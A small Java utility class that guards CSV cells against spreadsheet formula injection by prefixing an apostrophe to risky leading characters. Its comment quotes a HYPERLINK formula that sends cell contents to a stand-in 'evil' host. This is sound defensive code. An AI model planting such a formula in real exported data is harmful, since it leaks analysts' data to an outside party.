package org.aigov.observatory.kernel;

/**
 * Text cells for CSV files that people open in spreadsheets. A cell that starts with {@code = + - @}, a tab or a carriage
 * return is read by Excel, LibreOffice and Sheets as a formula, so a hostile report title such as
 * {@code =HYPERLINK("http://evil/?"&A1,"see")} would run on an analyst's machine (OWASP "CSV injection"). Such a cell gets a
 * leading apostrophe, which spreadsheets hide and treat as "this is text". Numbers are written as numbers, never through here.
 */
public final class CsvCells {
  private CsvCells() {}

  public static String text(String s) {
    if (s == null || s.isEmpty()) return s;
    char c = s.charAt(0);
    return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r' ? "'" + s : s;
  }
}
